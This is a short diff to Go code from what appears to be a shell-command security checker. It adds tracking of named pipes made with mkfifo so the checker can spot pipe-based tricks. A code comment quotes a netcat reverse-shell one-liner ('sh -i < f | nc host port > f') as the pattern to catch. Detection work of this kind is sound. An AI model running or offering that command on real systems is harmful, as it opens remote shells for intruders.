@@ -109,6 +109,10 @@ type walker struct {
 	cmds   []airlock.Command
 	depth  int // current nesting of wrappers and nested scripts
 	level  int // current nesting of compound commands, for maxSyntaxDepth
+	// fifos are the named pipes the script made (mkfifo): a command whose
+	// input is one reads what another command writes, as from a pipe
+	// (sh -i < f | nc host port > f is a remote shell).
+	fifos []string
 }
 
 // Parsers are reused: building one allocates more than parsing a short
